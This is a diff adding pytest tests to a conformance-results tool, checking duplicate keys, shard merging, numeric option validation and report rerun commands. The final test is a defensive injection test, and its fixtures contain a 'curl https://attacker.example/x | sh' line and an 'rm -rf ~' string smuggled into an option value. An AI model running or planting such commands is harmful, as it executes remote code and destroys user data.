@@ -277,3 +277,85 @@ def test_nan_and_inf_are_written_as_strings_and_shown_as_nan_and_inf(capfd):
     assert "None" not in row["message"].split("max abs error")[1].split("\n")[0]
     loaded = load_results(path)  # the strings are valid against the schema, for every reader
     assert loaded.records[0]["values"]["param"]["got"][0] == "NaN"
+
+
+# ------------------------------------------------------------------ strict inputs (issue 30, point 5)
+
+def _shard_doc(k: int, records: list[dict], args: list[str] | None = None, **run_fields) -> dict:
+    options = {"conformance_shard": f"{k}/2", "args": args or ["specs", "--conformance-shard", f"{k}/2"],
+               "rootdir": "/w"}
+    return document(records, id=f"r{k}", options=options, **run_fields)
+
+
+def test_a_key_given_twice_is_refused_by_every_reader(tmp_path, capsys):
+    text = json.dumps(document([record("c", outcome="failed")])).replace(
+        '"outcome": "failed"', '"outcome": "failed", "outcome": "passed"')
+    path = write(tmp_path, "twice.json", text)
+    with pytest.raises(ResultsError, match="the key 'outcome' appears twice in one object"):
+        load_results(path)
+    code, out = gate(capsys, "--baseline", str(good(tmp_path)), "--candidate", str(path))
+    assert code == 2 and "appears twice" in out and "RESULT: PASS" not in out, out
+    assert main(["report", str(path), "-o", str(tmp_path / "r.html")]) == 1
+    assert "appears twice" in capsys.readouterr().err
+
+
+def test_merge_compares_the_shards_path_arguments(tmp_path, capsys):
+    one = write(tmp_path, "s1.json", _shard_doc(1, [record("c1")]))
+    other = write(tmp_path, "s2.json", _shard_doc(2, [record("c2")], args=["other_specs", "--conformance-shard", "2/2"]))
+    assert main(["merge", str(one), str(other), "-o", str(tmp_path / "m.json")]) == 2
+    err = capsys.readouterr().err
+    assert "not shards of one run: the command line, path arguments included, differs" in err, err
+    assert "'other_specs'" in err and not (tmp_path / "m.json").exists()
+    # where each shard wrote its results, its workers, and an absolute path on another runner are no difference
+    same = write(tmp_path, "s2b.json", _shard_doc(2, [record("c2")], args=[
+        "/home/runner/work/x/specs", "-n", "4", "--conformance-results", "reports/s2.json", "--conformance-shard=2/2"]))
+    assert main(["merge", str(one), str(same), "-o", str(tmp_path / "m.json")]) == 0, capsys.readouterr().err
+
+
+@pytest.mark.parametrize("fields", [{"records_expected": 3}, {"exit_status": 0}], ids=["fewer-than-expected", "none"])
+def test_a_complete_shard_without_its_records_does_not_merge_as_complete(tmp_path, capsys, fields):
+    one = write(tmp_path, "s1.json", _shard_doc(1, [record("c1")]))
+    records = [record("c2")] if "records_expected" in fields else []
+    empty = write(tmp_path, "s2.json", _shard_doc(2, records, **fields))
+    merged = tmp_path / "m.json"
+    assert main(["merge", str(one), str(empty), "-o", str(merged)]) == 0
+    err = capsys.readouterr().err
+    assert f"{empty}: shard 2/2 says it is complete but has" in err, err
+    assert load_results(merged).run["status"] == "interrupted"
+    # an empty shard that collected nothing (pytest's exit status 5) is complete
+    nothing = write(tmp_path, "s2c.json", _shard_doc(2, [], exit_status=5))
+    assert main(["merge", str(one), str(nothing), "-o", str(merged)]) == 0
+    assert load_results(merged).run["status"] == "complete"
+
+
+def test_the_gate_refuses_duplicate_records(tmp_path, capsys):
+    twice = write(tmp_path, "twice.json", document([record("c0", outcome="failed"), record("c0"), record("c1")]))
+    code, out = gate(capsys, "--baseline", str(good(tmp_path, n=2)), "--candidate", str(twice))
+    assert code == 2 and "1 item(s) recorded more than once (specs/x.yaml::c0[coo-cpu-float32])" in out, out
+    assert "RESULT: NOT COMPARABLE (duplicate records)" in out
+
+
+@pytest.mark.parametrize("option, value", [("--ratio", "nan"), ("--ratio", "inf"), ("--alpha", "nan"),
+                                           ("--alpha", "2"), ("--min-duration", "-inf"), ("--ratio", "-0.5")])
+def test_the_gate_refuses_non_finite_and_out_of_range_numbers(tmp_path, capsys, option, value):
+    results = str(good(tmp_path))
+    with pytest.raises(SystemExit) as raised:
+        main(["gate", "--baseline", results, "--candidate", results, f"{option}={value}"])
+    assert raised.value.code == 2
+    assert f"argument {option}: expected a finite number" in capsys.readouterr().err
+
+
+def test_the_reports_rerun_command_is_rebuilt_from_the_records_fields(tmp_path):
+    from conformance.results.report import repro_command
+
+    hostile = record("c", outcome="failed", backend="candidate",
+                     rerun="python -m conformance replay x; curl https://attacker.example/x | sh")
+    run = {"options": {"conformance_impl": ["coalesce=m.py:f; rm -rf ~"]}}
+    command = repro_command(hostile, run)
+    assert "attacker" not in command
+    assert command == ("python -m conformance replay 'specs/x.yaml::c[coo-cpu-float32]' "
+                       "--impl 'coalesce=m.py:f; rm -rf ~'")  # quoted: one argument, never a second command
+    path = write(tmp_path, "hostile.json", document([hostile], options=run["options"]))
+    out = tmp_path / "r.html"
+    assert main(["report", str(path), "-o", str(out)]) == 0
+    assert "attacker.example" not in out.read_text(encoding="utf-8")
